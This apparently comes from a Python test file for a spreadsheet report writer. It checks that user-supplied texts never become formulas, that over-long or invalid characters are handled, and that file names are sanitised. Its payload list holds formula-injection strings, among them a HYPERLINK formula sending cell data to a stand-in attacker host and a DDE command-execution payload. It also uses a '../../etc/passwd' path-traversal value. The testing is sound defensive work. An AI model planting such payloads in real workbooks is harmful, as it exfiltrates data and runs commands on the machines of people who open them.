"""Texts of people in the workbook: never a formula, never cut, never a broken file."""

import re
import zipfile
from collections import Counter
from dataclasses import fields, replace
from io import BytesIO
from types import SimpleNamespace

import pytest

from boards.converters import PeriodKey
from finance.income import IncomeRow
from reports.names import DRAFT, file_name
from reports.workbook.writer import CannotWriteText, expenditure_workbook
from tests.reports.changes_builders import leaves
from tests.reports.workbook_builders import (
    CODES,
    bromley_report,
    cells_of,
    full_figures,
    make_facts,
    make_report,
    make_row,
    opened,
    recalculated,
    values_of,
    with_texts,
    written,
)

PAYLOADS = (
    '=HYPERLINK("http://evil.invalid/?"&B2,"x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\n=1+1",
    "   =1+1",
    "|calc",
    "%0A=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|'/c calc'!A0",
    "{=1+1}",
    "http://evil.invalid/",
    "<r><t>markup</t></r>",
    "_x003D_1+1",
)
MARKED = {text for text in PAYLOADS if text.lstrip(" ")[0] in "=+-@\t\n|%＝＋－＠"}


@pytest.mark.check(49)
@pytest.mark.office
def test_text_that_looks_like_a_formula_is_unchanged_in_libreoffice(tmp_path):
    contents = written(make_report(tuple(make_row(name=text) for text in PAYLOADS)))

    assert values_of(recalculated(contents, tmp_path), "Scheme name") == list(PAYLOADS)


# What the workbook tells of income; the rest stands in its notes, or on its page alone.
INCOME = ("name", "contribution")
# Fields of the figures that no sheet shows: what is shown instead is worked out from them.
NOT_SHOWN = {
    "Carried.stream",
    *(f"IncomeRow.{field.name}" for field in fields(IncomeRow) if field.name not in INCOME),
    "IncomeAddition.source",
    "IncomeAddition.note",
    "SpendGroup.short_name",
    "SpendReport.previous_period",
    "IncomeGroup.short_name",
}


@pytest.mark.check(49)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_a_person_becomes_a_formula_and_each_is_read_back_as_typed(payload):
    """Every text of everything that a workbook is made of begins with the payload."""
    facts = replace(make_facts(payload), authority=payload)

    contents = expenditure_workbook(facts, with_texts(full_figures(), payload))

    workbook = opened(contents)
    found = Counter(texts(workbook))
    expected = {leaf.value for leaf in leaves(with_texts(full_figures(), payload))
                if isinstance(leaf.value, str) and leaf.name not in CODES | NOT_SHOWN}  # fmt: skip
    assert {text for text in expected if not shown(text, found)} == set()
    assert found[payload] == 2
    assert formulas_in(contents) == formulas_in(expenditure_workbook(make_facts(), full_figures()))
    assert not [cell for sheet in workbook for row in sheet for cell in row if cell.hyperlink]


# Fields that stand in a cell together with others, or in a sentence of ours.
IN_A_SENTENCE = (
    "IncomeRow.contribution", "Movement.since", "Carried.reference", "Carried.name",
)  # fmt: skip


def shown(text, found):
    if text.endswith(IN_A_SENTENCE):
        return any(text.lower() in other.lower() for other in found)
    return text in found


def texts(workbook):
    return [
        cell.value
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def formulas_in(contents):
    """Every formula in the XML of the sheets."""
    archive = zipfile.ZipFile(BytesIO(contents))
    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    return re.findall("<f>(.*?)</f>", "".join(archive.read(name).decode() for name in sheets))


@pytest.mark.check(49)
def test_text_that_begins_like_a_formula_is_marked_as_text():
    rows = tuple(make_row(name=text) for text in (*PAYLOADS, "Plain"))

    cells = cells_of(opened(written(make_report(rows))), "Scheme name")

    marked = {cell.value for cell in cells if cell.quotePrefix}
    assert marked == MARKED


@pytest.mark.parametrize("text", ["x" * 32_768, "🙂" * 16_384], ids=["letters", "emoji"])
def test_a_text_longer_than_a_cell_is_refused_with_its_place(text):
    with pytest.raises(CannotWriteText, match="cell V5 of the sheet Data"):
        written(make_report((make_row(explanation=text),)))


def test_the_longest_text_a_cell_can_hold_is_kept_whole():
    text = "<&é>" * 8191 + "end"

    workbook = opened(written(make_report((make_row(explanation=text),))))

    assert values_of(workbook, "Explanation") == [text]


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\x1f", "\ufffe", "\uffff", "\x85"])
def test_a_character_that_xml_forbids_does_not_break_the_file(character):
    contents = written(make_report((make_row(name=f"a{character}b"),)), make_facts(character))

    assert values_of(opened(contents), "Scheme name")[0].startswith("a")


def test_half_a_character_is_refused():
    with pytest.raises(ValueError, match="surrogates not allowed"):
        written(make_report((make_row(name="\ud800"),)))


@pytest.mark.parametrize(
    ("board", "name"),
    [
        ("Bromley", "BCF-Bromley-2023-24-Q3-expenditure-DRAFT.xlsx"),
        (
            "Bournemouth, Christchurch and Poole",
            "BCF-Bournemouth-Christchurch-and-Poole-2023-24-Q3-expenditure-DRAFT.xlsx",
        ),
        ("King's/Lynn [East]: *?", "BCF-Kings-Lynn-East-2023-24-Q3-expenditure-DRAFT.xlsx"),
        ("../../etc/passwd", "BCF-etc-passwd-2023-24-Q3-expenditure-DRAFT.xlsx"),
        ("Ynys Môn", "BCF-Ynys-Mon-2023-24-Q3-expenditure-DRAFT.xlsx"),
        ("//", "BCF-2023-24-Q3-expenditure-DRAFT.xlsx"),
    ],
)
def test_a_file_name_holds_letters_digits_and_hyphens_only(board, name):
    quarter = SimpleNamespace(board=SimpleNamespace(name=board), key=PeriodKey(2023, 3))

    assert file_name(quarter, "expenditure", "xlsx", DRAFT) == name


@pytest.mark.parametrize("board", ["A/B [C]: *?", "King's Lynn", "Poole & Dorset", "&" * 100])
def test_a_board_with_any_name_gets_a_workbook_that_opens(board):
    workbook = opened(written(bromley_report(), make_facts(board)))

    assert workbook["Cover"]["A1"].value.endswith(f": {board}, Quarter 3 2023-24")
    footer = workbook["Data"].oddFooter.left.text
    assert footer.startswith(f"{board.replace('&', '&&')} BCF")
